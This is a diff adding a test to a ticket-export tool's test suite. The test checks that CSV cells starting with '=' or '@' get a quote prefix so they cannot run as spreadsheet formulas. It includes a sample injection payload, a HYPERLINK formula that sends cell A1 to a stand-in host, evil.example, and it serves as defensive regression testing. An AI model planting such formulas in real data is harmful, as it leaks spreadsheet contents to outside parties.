@@ -112,3 +112,32 @@ def test_help() -> None:
     assert result.exit_code == 0
     assert "--state [open|closed|all]" in result.output and "--format [table|json|csv]" in result.output
     assert "no key is ever printed" in " ".join(result.output.split())
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    """Issue 13, finding 10: a customer's error text or a close reason cannot run in a spreadsheet."""
+    url = f"sqlite:///{tmp_path}/formula.db"
+    store = Store(url)
+    migrate.upgrade(store)
+    with store.session() as session:
+        ticket, _ = ticket_store.create(
+            session,
+            ticket_store.NewTicket(
+                occurred_at=NOW,
+                model="gpt-4o",
+                status=401,
+                error_text='=HYPERLINK("https://evil.example/?x="&A1,"click")',
+                masked_key_id=None,
+                submission_key="view:formula",
+                source="command",
+                filed_by="U0AGENT01",
+            ),
+            now=NOW,
+        )
+        ticket_store.close(session, ticket.id or 0, by="U0AGENT01", reason="@SUM(1+1)", now=NOW)
+    store.close()
+    code, out, _ = run(url, "--state", "all", "--format", "csv")
+    assert code == 0
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["error_text"].startswith("'=HYPERLINK(")
+    assert row["close_reason"] == "'@SUM(1+1)"
